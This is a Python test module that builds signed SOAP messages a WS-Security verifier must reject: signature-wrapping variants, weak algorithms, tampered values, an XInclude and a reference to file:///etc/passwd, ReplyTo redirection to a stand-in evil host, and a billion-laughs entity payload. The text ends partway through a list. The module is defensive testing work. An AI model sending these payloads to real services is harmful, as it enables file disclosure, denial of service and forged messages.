"""The attack corpus: signed SOAP messages that must be refused, each with its code, and good ones that must pass.

Made, not collected: every attack is a change to what a sender signs (`Forge`) or to a good message on its way (a
function on the tree or on the bytes), and is made for SOAP 1.1 and 1.2.
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from lxml import etree

from tests import message_pki
from tests.message_pki import pki
from tests.wss_kit import (
    ADDRESSING,
    BASE64,
    DS,
    EXCLUSIVE,
    INCLUSIVE,
    MORE,
    NAMES,
    OASIS,
    SOAP_11,
    SOAP_12,
    WSA,
    WSSE,
    WSU,
    WSU_ID,
    XENC,
    Forge,
    at,
    edited,
    elliptic,
    revoked,
)

Tree = etree._Element
XSI = "http://www.w3.org/2001/XMLSchema-instance"
EVIL = '<h:TraCuu xmlns:h="urn:tinh:hoso"><h:MaHoSo>EVIL</h:MaHoSo></h:TraCuu>'


@dataclass(frozen=True)
class Case:
    """One message, and what must become of it."""

    name: str
    code: str
    """Empty for a good message."""
    data: bytes


def cases() -> Iterator[Case]:
    """All of it."""
    for version, soap in (("1.1", SOAP_11), ("1.2", SOAP_12)):
        forge = Forge(soap=soap)
        message = forge.message()
        for name, code, changes in SIGNED_WRONG:
            yield Case(f"{version} {name}", code, forge.but(**changes).message())
        for name, code, change in CHANGED:
            yield Case(f"{version} {name}", code, edited(message, change))
        for name, code, rewrite in REWRITTEN:
            yield Case(f"{version} {name}", code, rewrite(message))
        for name, code, holder in HOLDERS:
            yield Case(f"{version} {name}", code, forge.but(holder=holder(), method=_method(holder())).message())
        for name, changes in GOOD:
            yield Case(f"{version} {name}", "", forge.but(**changes).message())


# -- what a sender signs -----------------------------------------------------------------------------------------------

_C14N = "http://www.w3.org/2006/12/xml-c14n11"
_LIST = f'<ec:InclusiveNamespaces xmlns:ec="{EXCLUSIVE}" PrefixList="soap"/>'
_ALL = ("body", "ts", *ADDRESSING)
_STR = f"{OASIS}soap-message-security-1.0#STR-Transform"


def _transform(name: str, *transforms: str, inside: str = "", code: str = "weak_algorithm") -> tuple[str, str, dict]:
    return f"transform: {name}", code, {"transforms": transforms, "transform_inside": inside}


def _times(name: str, content: str, code: str = "stale_signature") -> tuple[str, str, dict]:
    return f"times: {name}", code, {"timestamp": content}


def _stamp(created: str, expires: str) -> str:
    return f"<wsu:Created>{created}</wsu:Created><wsu:Expires>{expires}</wsu:Expires>"


def _key_info(name: str, content: str, code: str = "wrong_envelope") -> tuple[str, str, dict]:
    return f"key info: {name}", code, {"key_info": content}


def _pointer(inside: str) -> str:
    return f"<wsse:SecurityTokenReference>{inside}</wsse:SecurityTokenReference>"


SIGNED_WRONG: list[tuple[str, str, dict]] = [
    # coverage
    ("coverage: body only", "wrong_parts", {"signed": ("body", *ADDRESSING)[:1]}),
    ("coverage: no timestamp", "wrong_parts", {"signed": ("body", *ADDRESSING)}),
    ("coverage: no body", "wrong_parts", {"signed": ("ts", *ADDRESSING)}),
    ("coverage: timestamp only", "wrong_parts", {"signed": ("ts",)}),
    ("coverage: no To", "wrong_parts", {"signed": ("body", "ts", "Action", "MessageID")}),
    ("coverage: no Action", "wrong_parts", {"signed": ("body", "ts", "To", "MessageID")}),
    ("coverage: no MessageID", "wrong_parts", {"signed": ("body", "ts", "To", "Action")}),
    ("coverage: nothing", "wrong_parts", {"signed": ()}),
    ("coverage: token only", "wrong_parts", {"signed": ("token",)}),
    ("coverage: body twice", "wrong_parts", {"signed": (*_ALL, "body")}),
    ("coverage: a part that is not there", "wrong_parts", {"signed": (*_ALL, "nowhere")}),
    ("coverage: seventeen parts", "wrong_parts", {"signed": ("body",) * 17}),
    (
        "coverage: a header of a stranger",
        "wrong_parts",
        {"headers": '<x:x xmlns:x="urn:x" wsu:Id="x">1</x:x>', "signed": (*_ALL, "x")},
    ),
    (
        "coverage: an element inside the body",
        "wrong_parts",
        {"content": '<h:a xmlns:h="urn:a" wsu:Id="inner">1</h:a>', "signed": ("inner", "ts", *ADDRESSING)},
    ),
    ("coverage: a typed reference", "wrong_parts", {"reference_attributes": f'Type="{DS}Manifest"'}),
    ("coverage: a reference with an Id", "wrong_parts", {"reference_attributes": 'Id="r"', "signed": ("body",)}),
    # transforms
    _transform("none", code="wrong_envelope"),
    _transform("inclusive", INCLUSIVE),
    _transform("inclusive with comments", f"{INCLUSIVE}#WithComments"),
    _transform("inclusive 1.1", _C14N),
    _transform("exclusive with comments", f"{EXCLUSIVE}WithComments"),
    _transform("exclusive twice", EXCLUSIVE, EXCLUSIVE),
    _transform("enveloped", f"{DS}enveloped-signature"),
    _transform("enveloped, then exclusive", f"{DS}enveloped-signature", EXCLUSIVE),
    _transform("XPath", "http://www.w3.org/TR/1999/REC-xpath-19991116", inside="<XPath>1=1</XPath>"),
    _transform("XPath filter 2", "http://www.w3.org/2002/06/xmldsig-filter2"),
    _transform("XSLT", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
    _transform("Base64", f"{DS}base64"),
    _transform("STR", _STR),
    _transform("decryption", "http://www.w3.org/2002/07/decrypt#XML"),
    _transform("unknown", "urn:example:transform"),
    _transform("without a name", ""),
    _transform("a PrefixList", EXCLUSIVE, inside=_LIST),
    ("canonicalization: inclusive", "weak_algorithm", {"canonicalization": INCLUSIVE}),
    ("canonicalization: with comments", "weak_algorithm", {"canonicalization": f"{EXCLUSIVE}WithComments"}),
    ("canonicalization: 1.1", "weak_algorithm", {"canonicalization": _C14N}),
    ("canonicalization: unknown", "weak_algorithm", {"canonicalization": "urn:example:c14n"}),
    # algorithms
    ("algorithm: RSA-SHA1", "weak_algorithm", {"method": f"{DS}rsa-sha1"}),
    ("algorithm: DSA-SHA1", "weak_algorithm", {"method": f"{DS}dsa-sha1"}),
    ("algorithm: HMAC-SHA1 with the public key", "weak_algorithm", {"method": f"{DS}hmac-sha1"}),
    ("algorithm: HMAC-SHA256 with the public key", "weak_algorithm", {"method": f"{MORE}hmac-sha256"}),
    ("algorithm: RSA-MD5", "weak_algorithm", {"method": f"{MORE}rsa-md5"}),
    ("algorithm: RSA-SHA384", "weak_algorithm", {"method": f"{MORE}rsa-sha384"}),
    ("algorithm: RSA-PSS", "weak_algorithm", {"method": "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"}),
    ("algorithm: ECDSA with an RSA key", "weak_algorithm", {"method": f"{MORE}ecdsa-sha256"}),
    ("algorithm: none", "weak_algorithm", {"method": "none"}),
    ("algorithm: without a name", "weak_algorithm", {"method": ""}),
    ("algorithm: in other letters", "weak_algorithm", {"method": f"{MORE}RSA-SHA256"}),
    (
        "algorithm: an output length",
        "weak_algorithm",
        {"method_inside": "<ds:HMACOutputLength>8</ds:HMACOutputLength>"},
    ),
    (
        "algorithm: HMAC with an output length",
        "weak_algorithm",
        {"method": f"{DS}hmac-sha1", "method_inside": "<ds:HMACOutputLength>8</ds:HMACOutputLength>"},
    ),
    ("digest: SHA-1", "weak_algorithm", {"digest": f"{DS}sha1"}),
    ("digest: MD5", "weak_algorithm", {"digest": f"{MORE}md5"}),
    ("digest: SHA-224", "weak_algorithm", {"digest": f"{MORE}sha224"}),
    ("digest: unknown", "weak_algorithm", {"digest": "urn:example:digest"}),
    # times
    _times("expired", _stamp(at(minutes=-12), at(minutes=-6))),
    _times("expired to the second", _stamp(at(minutes=-10), at(minutes=-5))),
    _times("of last year", _stamp(at(days=-365), at(days=-365, minutes=5))),
    _times("from the future", _stamp(at(minutes=6), at(minutes=9))),
    _times("good for too long", _stamp(at(), at(minutes=11))),
    _times("good for ever", _stamp(at(), "9999-12-31T23:59:59Z")),
    _times("expires first", _stamp(at(), at(minutes=-1))),
    _times("no life", _stamp(at(), at())),
    _times("no zone", _stamp(at()[:-1], at(minutes=5))),
    _times("no time", _stamp("", "")),
    _times("words", _stamp("now", "later")),
    _times("a day that does not exist", _stamp("2026-02-30T05:00:00Z", at(minutes=5))),
    _times("a date only", _stamp("2026-07-03", at(minutes=5))),
    _times("digits of another script", _stamp("２０２６-07-03T05:00:00Z", at(minutes=5))),
    _times("an hour that does not exist", _stamp("2026-07-03T25:00:00Z", at(minutes=5))),
    _times("no Expires", f"<wsu:Created>{at()}</wsu:Created>", "wrong_envelope"),
    _times("no Created", f"<wsu:Expires>{at()}</wsu:Expires>", "wrong_envelope"),
    _times("empty", "", "wrong_envelope"),
    _times("two Created", f"<wsu:Created>{at()}</wsu:Created>" + _stamp(at(), at(minutes=5)), "wrong_envelope"),
    _times(
        "the other way round",
        f"<wsu:Expires>{at(minutes=5)}</wsu:Expires><wsu:Created>{at()}</wsu:Created>",
        "wrong_envelope",
    ),
    _times("a comment in Expires", _stamp(at(), "<!-- -->" + at(minutes=5)), "wrong_parts"),
    # key info and token
    _key_info("empty", ""),
    _key_info("a key of its own", "<ds:KeyValue/>"),
    _key_info("a name", "<ds:KeyName>one-stop</ds:KeyName>"),
    _key_info("certificate beside the token", "<ds:X509Data/>"),
    _key_info("fetched", '<ds:RetrievalMethod URI="http://pki.example.invalid/key"/>'),
    _key_info("another Id", _pointer('<wsse:Reference URI="#body"/>')),
    _key_info("an address", _pointer('<wsse:Reference URI="http://pki.example.invalid/token"/>')),
    _key_info("no Id", _pointer("<wsse:Reference/>")),
    _key_info("another kind of token", _pointer('<wsse:Reference URI="#token" ValueType="urn:example:saml"/>')),
    _key_info("an identifier", _pointer("<wsse:KeyIdentifier>AAAA</wsse:KeyIdentifier>")),
    _key_info("an embedded token", _pointer("<wsse:Embedded/>")),
    _key_info("two pointers", _pointer('<wsse:Reference URI="#token"/><wsse:Reference URI="#token"/>')),
    _key_info("two references", _pointer('<wsse:Reference URI="#token"/>') * 2),
    _key_info("a comment", "<!-- -->" + _pointer('<wsse:Reference URI="#token"/>')),
    ("token: a path of certificates", "wrong_envelope", {"token_type": f"{OASIS}x509-token-profile-1.0#X509PKIPathv1"}),
    ("token: in hexadecimal", "wrong_envelope", {"token_encoding": BASE64.replace("Base64", "Hex")}),
    ("token: not a certificate", "untrusted", {"token": b"not a certificate"}),
    ("token: empty", "untrusted", {"token": b""}),
    ("token: a certificate and more", "untrusted", {"token": pki().leaf.der + b"\0"}),
    ("token: PEM", "untrusted", {"token": pki().leaf.pem}),
    ("token: somebody else's certificate", "bad_signature", {"token": revoked().der}),
    # headers
    ("header: must be understood", "must_understand", {"headers": '<x:x xmlns:x="urn:x" soap:mustUnderstand="1"/>'}),
    (
        "header: must be understood, in a word",
        "must_understand",
        {"headers": '<x:x xmlns:x="urn:x" soap:mustUnderstand="true"/>'},
    ),
    (
        "header: must be understood, by the other version",
        "must_understand",
        {
            "headers": f'<x:x xmlns:x="urn:x" xmlns:a="{SOAP_11}" xmlns:b="{SOAP_12}" a:mustUnderstand="1" '
            'b:mustUnderstand="true"/>'
        },
    ),
    (
        "header: must be understood, or what",
        "must_understand",
        {"headers": '<x:x xmlns:x="urn:x" soap:mustUnderstand="maybe"/>'},
    ),
    (
        "header: reply elsewhere, unsigned",
        "wrong_parts",
        {"headers": "<wsa:ReplyTo><wsa:Address>http://evil.example.invalid</wsa:Address></wsa:ReplyTo>"},
    ),
    (
        "header: reply elsewhere, with an Id, unsigned",
        "wrong_parts",
        {"headers": '<wsa:ReplyTo wsu:Id="r"><wsa:Address>http://evil.example.invalid</wsa:Address></wsa:ReplyTo>'},
    ),
    (
        "header: an older To, unsigned",
        "wrong_parts",
        {"headers": '<o:To xmlns:o="http://schemas.xmlsoap.org/ws/2004/08/addressing">urn:evil</o:To>'},
    ),
    ("header: Security for another node", "wrong_envelope", {"security_attributes": 'soap:actor="urn:other"'}),
    ("header: Security for another role", "wrong_envelope", {"security_attributes": 'soap:role="urn:other"'}),
    # what a text may say that its canonical form does not
    (
        "meaning: a comment in a value",
        "wrong_parts",
        {"content": '<h:a xmlns:h="urn:a"><h:b>ad<!-- -->min</h:b></h:a>'},
    ),
    (
        "meaning: a type of a prefix outside",
        "wrong_parts",
        {
            "envelope_attributes": 'xmlns:t="urn:t"',
            "content": '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="t:Kind">1</a>',
        },
    ),
    (
        "meaning: a type of the default namespace outside",
        "wrong_parts",
        {
            "envelope_attributes": 'xmlns="urn:t"',
            "content": f'<h:a xmlns:h="urn:h" xmlns:xsi="{XSI}" xsi:type="K">1</h:a>',
        },
    ),
    ("ids: one value twice in the body", "duplicate_id", {"content": '<a><b Id="1"/><b Id="1"/></a>'}),
    ("ids: one value under two names", "duplicate_id", {"content": '<a><b Id="1"/><b ID="1"/></a>'}),
    ("ids: xml:id and wsu:Id", "duplicate_id", {"content": '<a xml:id="body"/>'}),
]


# -- what happens on the way -------------------------------------------------------------------------------------------


def one(root: Tree, path: str) -> Tree:
    """The only element there."""
    (found,) = root.xpath(path, namespaces=NAMES)
    return found


def _body(root: Tree) -> Tree:
    return one(root, "/*/*[local-name() = 'Body']")


def _header(root: Tree) -> Tree:
    return one(root, "/*/*[local-name() = 'Header']")


def _security(root: Tree) -> Tree:
    return one(root, "//wsse:Security")


def _stamped(root: Tree) -> Tree:
    return one(root, "//wsse:Security/wsu:Timestamp")


def _made(root: Tree, name: str, content: str, **attributes: str) -> Tree:
    """A new element of the envelope's own namespace."""
    made = etree.Element(f"{{{etree.QName(root).namespace}}}{name}")
    made.append(etree.fromstring(content))
    for key, value in attributes.items():
        made.set({"wsu": WSU_ID, "xml": "{http://www.w3.org/XML/1998/namespace}id"}.get(key, key), value)
    return made


def _wrap(where: str, **attributes: str) -> Callable[[Tree], None]:
    """Replace the Body by an evil one with these Ids, and put the signed one somewhere else."""

    def change(root: Tree) -> None:
        body = _body(root)
        evil = _made(root, "Body", EVIL, **attributes)
        root.replace(body, evil)
        _put(root, body, where)

    return change


def _put(root: Tree, element: Tree, where: str) -> None:
    match where:
        case "header" | "first header":
            wrapper = etree.Element("{urn:x}Wrapper")
            wrapper.append(element)
            _header(root).insert(0 if where == "first header" else 99, wrapper)
        case "bare header":
            _header(root).append(element)
        case "security":
            _security(root).append(element)
        case "signature":
            etree.SubElement(one(root, "//ds:Signature"), f"{{{DS}}}Object").append(element)
        case "key info":
            one(root, "//ds:KeyInfo").append(element)
        case "inside":
            _body(root).append(element)
        case "deep inside":
            _body(root)[0].append(element)
        case "after":
            root.append(element)
        case "before":
            root.insert(1, element)
        case "trailer":
            etree.SubElement(root, "{urn:x}Trailer").append(element)
        case "nowhere":
            pass


WRAPPED = [
    ("header", "wrong_parts", {}),
    ("header", "wrong_parts", {"wsu": "other"}),
    ("header", "duplicate_id", {"wsu": "body"}),
    ("header", "duplicate_id", {"Id": "body"}),
    ("header", "duplicate_id", {"ID": "body"}),
    ("header", "duplicate_id", {"xml": "body"}),
    ("header", "wrong_parts", {"id": "body"}),
    ("first header", "wrong_parts", {}),
    ("first header", "duplicate_id", {"wsu": "body"}),
    ("bare header", "wrong_parts", {}),
    ("bare header", "duplicate_id", {"wsu": "body"}),
    ("security", "wrong_envelope", {}),
    ("security", "wrong_envelope", {"wsu": "body"}),
    ("signature", "wrong_envelope", {}),
    ("key info", "wrong_parts", {}),
    ("inside", "wrong_parts", {}),
    ("inside", "duplicate_id", {"wsu": "body"}),
    ("deep inside", "wrong_parts", {}),
    ("deep inside", "duplicate_id", {"wsu": "body"}),
    ("after", "wrong_envelope", {}),
    ("after", "wrong_envelope", {"wsu": "body"}),
    ("before", "wrong_envelope", {}),
    ("trailer", "wrong_envelope", {}),
    ("nowhere", "wrong_parts", {}),
    ("nowhere", "bad_signature", {"wsu": "body"}),
]


def _move_timestamp(where: str, *, identifier: str | None) -> Callable[[Tree], None]:
    def change(root: Tree) -> None:
        old = _stamped(root)
        new = copy.deepcopy(old)
        new[0].text, new[1].text = at(seconds=-1), at(seconds=299)
        del new.attrib[WSU_ID]
        if identifier:
            new.set(WSU_ID, identifier)
        old.getparent().replace(old, new)
        _put(root, old, where)

    return change


def _set(path: str, text: str) -> Callable[[Tree], None]:
    def change(root: Tree) -> None:
        one(root, path).text = text

    return change


def _remove(path: str) -> Callable[[Tree], None]:
    def change(root: Tree) -> None:
        found = one(root, path)
        found.getparent().remove(found)

    return change


def _copied(path: str, index: int = 99) -> Callable[[Tree], None]:
    """The element a second time, beside the first, without its Ids."""

    def change(root: Tree) -> None:
        found = one(root, path)
        twin = copy.deepcopy(found)
        for each in twin.iter(etree.Element):
            for name in (WSU_ID, "Id"):
                each.attrib.pop(name, None)
        found.getparent().insert(index, twin)

    return change


def _added(path: str, content: str, index: int = 99) -> Callable[[Tree], None]:
    def change(root: Tree) -> None:
        one(root, path).insert(index, etree.fromstring(content))

    return change


def _moved(path: str, to: str, index: int = 99) -> Callable[[Tree], None]:
    def change(root: Tree) -> None:
        one(root, to).insert(index, one(root, path))

    return change


def _comment(path: str) -> Callable[[Tree], None]:
    """A comment in the middle of a text: its canonical form stays the same."""

    def change(root: Tree) -> None:
        found = one(root, path)
        text, comment = found.text or "", etree.Comment(" ")
        found.text, comment.tail = text[:3], text[3:]
        found.insert(0, comment)

    return change


def _value(change: Callable[[bytes], bytes]) -> Callable[[Tree], None]:
    """The signature's bytes, changed."""

    def edit(root: Tree) -> None:
        found = one(root, "//ds:SignatureValue")
        found.text = base64.b64encode(change(base64.b64decode(found.text))).decode()

    return edit


def _attribute(path: str, name: str, value: str | None) -> Callable[[Tree], None]:
    def change(root: Tree) -> None:
        found = one(root, path)
        if value is None:
            del found.attrib[name]
        else:
            found.set(name, value)

    return change


def _nested(root: Tree) -> None:
    """The whole signed envelope as content of an unsigned one."""
    inside = copy.deepcopy(root)
    for each in list(_header(root)):
        _header(root).remove(each)
    body = _body(root)
    body.attrib.clear()
    body[:] = [inside]


def _nested_with_security(root: Tree) -> None:
    """The whole signed envelope inside a header, its Security on top, and another Body."""
    inside, security = copy.deepcopy(root), _security(root)
    security_inside = _security(inside)
    security_inside.getparent().remove(security_inside)
    for each in list(_header(root)):
        if each is not security:
            _header(root).remove(each)
    etree.SubElement(_header(root), "{urn:x}Wrapper").append(inside)
    root.replace(_body(root), _made(root, "Body", EVIL))


def _swapped_versions(root: Tree) -> None:
    other = SOAP_12 if etree.QName(root).namespace == SOAP_11 else SOAP_11
    for each in (root, _header(root), _body(root)):
        each.tag = f"{{{other}}}{etree.QName(each).localname}"


_INFO = "//ds:SignedInfo"
_MA = "//h:MaHoSo"
_SIGNATURE = "//ds:Signature"

CHANGED: list[tuple[str, str, Callable[[Tree], object]]] = [
    *(
        (f"wrapping: body to {where}, another with {ids or 'no Id'}", code, _wrap(where, **ids))
        for where, code, ids in WRAPPED
    ),
    ("wrapping: envelope in envelope", "wrong_envelope", _nested),
    ("wrapping: envelope in a header, its Security on top", "wrong_parts", _nested_with_security),
    ("wrapping: timestamp to a header, another without Id", "wrong_parts", _move_timestamp("header", identifier=None)),
    ("wrapping: timestamp to a header, another Id", "wrong_parts", _move_timestamp("header", identifier="t2")),
    ("wrapping: timestamp to a header, the same Id", "duplicate_id", _move_timestamp("header", identifier="ts")),
    ("wrapping: timestamp to the body", "wrong_parts", _move_timestamp("inside", identifier=None)),
    ("wrapping: timestamp to the signature", "wrong_envelope", _move_timestamp("signature", identifier=None)),
    ("wrapping: timestamp twice", "wrong_envelope", _copied("//wsu:Timestamp")),
    ("wrapping: timestamp twice, first", "wrong_envelope", _copied("//wsu:Timestamp", 0)),
    ("wrapping: timestamp moved to the Header", "wrong_envelope", _moved("//wsu:Timestamp", "/*/*[1]")),
    ("wrapping: timestamp moved to the Body", "wrong_envelope", _moved("//wsu:Timestamp", "/*/*[2]")),
    (
        "wrapping: another To, the signed one moved",
        "wrong_parts",
        lambda root: (
            _added("/*/*[1]", f'<a:To xmlns:a="{WSA}">urn:evil</a:To>', 0)(root),
            _put(root, root.xpath("//wsa:To", namespaces=NAMES)[1], "header"),
        ),
    ),
    ("wrapping: a second To", "wrong_envelope", _copied("//wsa:To")),
    ("wrapping: a second Action, first", "wrong_envelope", _copied("//wsa:Action", 0)),
    ("wrapping: a second MessageID", "wrong_envelope", _copied("//wsa:MessageID")),
    ("wrapping: To moved into the body", "wrong_parts", _moved("//wsa:To", "/*/*[2]")),
    ("security: a second one", "wrong_envelope", _added("/*/*[1]", f'<s:Security xmlns:s="{WSSE}"/>')),
    ("security: a second one, first", "wrong_envelope", _added("/*/*[1]", f'<s:Security xmlns:s="{WSSE}"/>', 0)),
    ("security: a copy", "wrong_envelope", _copied("//wsse:Security")),
    ("security: a second one in the body", "wrong_envelope", _added("/*/*[2]", f'<s:Security xmlns:s="{WSSE}"/>')),
    ("security: in the body", "wrong_envelope", _moved("//wsse:Security", "/*/*[2]")),
    ("security: inside another header", "wrong_envelope", _moved("//wsse:Security", "//wsa:To")),
    ("security: absent", "unsigned", _remove("//wsse:Security")),
    ("security: header absent", "unsigned", _remove("/*/*[1]")),
    ("signature: absent", "unsigned", _remove(_SIGNATURE)),
    ("signature: beside Security", "unsigned", _moved(_SIGNATURE, "/*/*[1]")),
    ("signature: in the body", "unsigned", _moved(_SIGNATURE, "/*/*[2]")),
    ("signature: two", "wrong_envelope", _copied(_SIGNATURE)),
    ("signature: two, first", "wrong_envelope", _copied(_SIGNATURE, 0)),
    ("signature: an Object", "wrong_envelope", _added(_SIGNATURE, f'<o:Object xmlns:o="{DS}"/>')),
    ("signature: a text beside", "wrong_envelope", lambda root: setattr(one(root, _INFO), "tail", "x")),
    ("signature: a text in SignedInfo", "wrong_envelope", _set(_INFO, "x")),
    ("signature: a stray attribute", "wrong_envelope", _attribute(_SIGNATURE, "id", "x")),
    (
        "signature: a stray attribute of a digest",
        "wrong_envelope",
        _attribute("//ds:Reference[1]/ds:DigestValue", "Algorithm", "x"),
    ),
    ("signature: no SignedInfo", "wrong_envelope", _remove(_INFO)),
    ("signature: two SignedInfo", "wrong_envelope", _copied(_INFO)),
    ("signature: no value", "wrong_envelope", _remove("//ds:SignatureValue")),
    ("signature: two values", "wrong_envelope", _copied("//ds:SignatureValue")),
    ("signature: no KeyInfo", "wrong_envelope", _remove("//ds:KeyInfo")),
    ("signature: a comment", "wrong_envelope", lambda root: one(root, _SIGNATURE).insert(0, etree.Comment("x"))),
    (
        "signature: a comment in SignedInfo",
        "wrong_envelope",
        lambda root: one(root, _INFO).insert(0, etree.Comment("")),
    ),
    ("signature: a comment in its value", "wrong_envelope", _comment("//ds:SignatureValue")),
    ("signature: a comment in a digest", "wrong_envelope", _comment("//ds:Reference[1]/ds:DigestValue")),
    ("signature: no canonicalization", "wrong_envelope", _remove("//ds:CanonicalizationMethod")),
    ("signature: a stranger in SignedInfo", "wrong_envelope", _added(_INFO, "<x/>")),
    ("signature: no digest method", "wrong_envelope", _remove("//ds:Reference[1]/ds:DigestMethod")),
    ("signature: a reference without URI", "wrong_parts", _attribute("//ds:Reference[1]", "URI", None)),
    ("signature: a reference to all", "wrong_parts", _attribute("//ds:Reference[1]", "URI", "")),
    (
        "signature: a reference by XPointer",
        "wrong_parts",
        _attribute("//ds:Reference[1]", "URI", "#xpointer(id('body'))"),
    ),
    ("signature: a reference to the root", "wrong_parts", _attribute("//ds:Reference[1]", "URI", "#xpointer(/)")),
    (
        "signature: a reference outside",
        "wrong_parts",
        _attribute("//ds:Reference[1]", "URI", "http://evil.example.invalid/body"),
    ),
    ("signature: a reference to a file", "wrong_parts", _attribute("//ds:Reference[1]", "URI", "file:///etc/passwd")),
    ("signature: a reference with a quote", "wrong_parts", _attribute("//ds:Reference[1]", "URI", "#body' or '1")),
    (
        "signature: an algorithm with another attribute",
        "weak_algorithm",
        _attribute("//ds:SignatureMethod", "Parameter", "1"),
    ),
    ("signature: references in another order", "bad_signature", _moved("//ds:Reference[1]", _INFO)),
    ("signature: one reference less", "wrong_parts", _remove("//ds:Reference[2]")),
    ("value: one bit", "bad_signature", _value(lambda value: bytes([value[0] ^ 1]) + value[1:])),
    ("value: empty", "bad_signature", _value(lambda value: b"")),
    ("value: one byte less", "bad_signature", _value(lambda value: value[:-1])),
    ("value: one byte more", "bad_signature", _value(lambda value: b"\0" + value)),
    ("value: zeros", "bad_signature", _value(lambda value: bytes(len(value)))),
    ("value: ones", "bad_signature", _value(lambda value: b"\xff" * len(value))),
    ("value: one", "bad_signature", _value(lambda value: bytes(len(value) - 1) + b"\x01")),
    ("value: not Base64", "wrong_envelope", _set("//ds:SignatureValue", "!!!")),
    (
        "value: Base64 with letters after its end",
        "wrong_envelope",
        lambda root: _set("//ds:SignatureValue", one(root, "//ds:SignatureValue").text + "AAAA")(root),
    ),
    ("value: not ASCII", "wrong_envelope", _set("//ds:SignatureValue", "Nguyễn")),
    (
        "digest: another",
        "bad_signature",
        _set("//ds:Reference[1]/ds:DigestValue", base64.b64encode(bytes(32)).decode()),
    ),
    ("digest: empty", "bad_signature", _set("//ds:Reference[1]/ds:DigestValue", "")),
    ("changed: a text", "bad_signature", _set(_MA, "H99.24-260703-0008")),
    ("changed: an attribute", "bad_signature", _attribute("//h:NguoiNop", "ma", "099000000002")),
    ("changed: an attribute more", "bad_signature", _attribute(_MA, "x", "1")),
    ("changed: an attribute less", "bad_signature", _attribute("//h:NguoiNop", "ma", None)),
    ("changed: an element more", "bad_signature", _added("//h:TraCuu", "<x/>")),
    ("changed: an element less", "bad_signature", _remove("//h:LePhi")),
    ("changed: the order", "bad_signature", _moved(_MA, "//h:TraCuu")),
    ("changed: a space", "bad_signature", _set(_MA, "H99.24-260703-0007 ")),
    ("changed: composed letters", "bad_signature", _set("//h:NguoiNop", "Nguye\u0302\u0303n Va\u0306n A")),
    ("changed: Created", "bad_signature", _set("//wsu:Created", at(seconds=-4))),
    ("changed: Expires", "bad_signature", _set("//wsu:Expires", at(seconds=400))),
    ("changed: To", "bad_signature", _set("//wsa:To", "urn:evil")),
    ("changed: Action", "bad_signature", _set("//wsa:Action", "urn:evil")),
    ("changed: MessageID", "bad_signature", _set("//wsa:MessageID", "urn:again")),
    ("changed: all Ids of the body", "wrong_parts", _attribute("/*/*[2]", WSU_ID, "b2")),
    (
        "changed: a namespace",
        "bad_signature",
        lambda root: [
            setattr(each, "tag", each.tag.replace("urn:tinh:hoso", "urn:tinh:evil"))
            for each in root.iter("{urn:tinh:hoso}*")
        ],
    ),
    (
        "changed: the version of SOAP",
        "must_understand",
        lambda root: (
            _swapped_versions(root),
            _header(root).insert(
                0, etree.fromstring(f'<x xmlns:s="{etree.QName(root).namespace}" s:mustUnderstand="1"/>')
            ),
        ),
    ),
    ("changed: the version of SOAP, quietly", "bad_signature", _swapped_versions),
    ("changed: a comment in a value", "wrong_parts", _comment(_MA)),
    ("changed: a comment in To", "wrong_parts", _comment("//wsa:To")),
    ("changed: a comment in Created", "wrong_parts", _comment("//wsu:Created")),
    ("changed: a comment in the token", "wrong_envelope", _comment("//wsse:BinarySecurityToken")),
    ("token: two", "wrong_envelope", _copied("//wsse:BinarySecurityToken")),
    ("token: absent", "wrong_envelope", _remove("//wsse:BinarySecurityToken")),
    ("token: without Id", "wrong_parts", _attribute("//wsse:BinarySecurityToken", WSU_ID, None)),
    ("token: not Base64", "wrong_envelope", _set("//wsse:BinarySecurityToken", "MII")),
    (
        "security: a user name beside",
        "wrong_envelope",
        _added("//wsse:Security", f'<u:UsernameToken xmlns:u="{WSSE}"/>'),
    ),
    (
        "security: encrypted data beside",
        "wrong_envelope",
        _added("//wsse:Security", f'<e:EncryptedData xmlns:e="{XENC}"/>'),
    ),
    ("envelope: two Headers", "wrong_envelope", _copied("/*/*[1]", 0)),
    ("envelope: Body first", "wrong_envelope", _moved("/*/*[2]", "/*", 0)),
    ("envelope: no Body", "wrong_envelope", _remove("/*/*[2]")),
    ("envelope: a stranger", "wrong_envelope", _added("/*", "<x/>")),
    ("envelope: of nobody", "wrong_envelope", lambda root: setattr(root, "tag", "{urn:x}Envelope")),
    (
        "envelope: not an envelope",
        "wrong_envelope",
        lambda root: setattr(root, "tag", root.tag.replace("Envelope", "Letter")),
    ),
    (
        "envelope: Body of the other version",
        "wrong_envelope",
        lambda root: setattr(
            _body(root), "tag", (f"{{{SOAP_12 if etree.QName(root).namespace == SOAP_11 else SOAP_11}}}Body")
        ),
    ),
    (
        "xml: an inclusion",
        "xml_inclusion",
        _added("/*/*[2]", '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    ),
    (
        "xml: an instruction",
        "xml_instruction",
        lambda root: _body(root).append(etree.ProcessingInstruction("php", "1")),
    ),
    ("xml: too deep", "xml_too_large", _added("/*/*[2]", "<a>" * 70 + "</a>" * 70)),
]


# -- bytes -------------------------------------------------------------------------------------------------------------


def _doctype(inside: str, use: str = "") -> Callable[[bytes], bytes]:
    """A document type in front, and its entity in a value."""

    def rewrite(data: bytes) -> bytes:
        return f"<!DOCTYPE Envelope {inside}>".encode() + data.replace(b"H99.24-260703-0007", use.encode() or b"1", 1)

    return rewrite


def _encoded(encoding: str, *, declared: str = "") -> Callable[[bytes], bytes]:
    def rewrite(data: bytes) -> bytes:
        told = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
        return (told + data.decode()).encode(encoding, "xmlcharrefreplace")

    return rewrite


_LAUGHS = (
    '[<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]"
)

REWRITTEN: list[tuple[str, str, Callable[[bytes], bytes]]] = [
    ("xml: a DTD", "xml_dtd", _doctype("[]")),
    ("xml: a DTD after a comment", "xml_dtd", lambda data: b"<!-- x -->\n<!DOCTYPE Envelope>" + data),
    ("xml: a DTD after a declaration", "xml_dtd", lambda data: b'<?xml version="1.0"?> <!DOCTYPE Envelope>' + data),
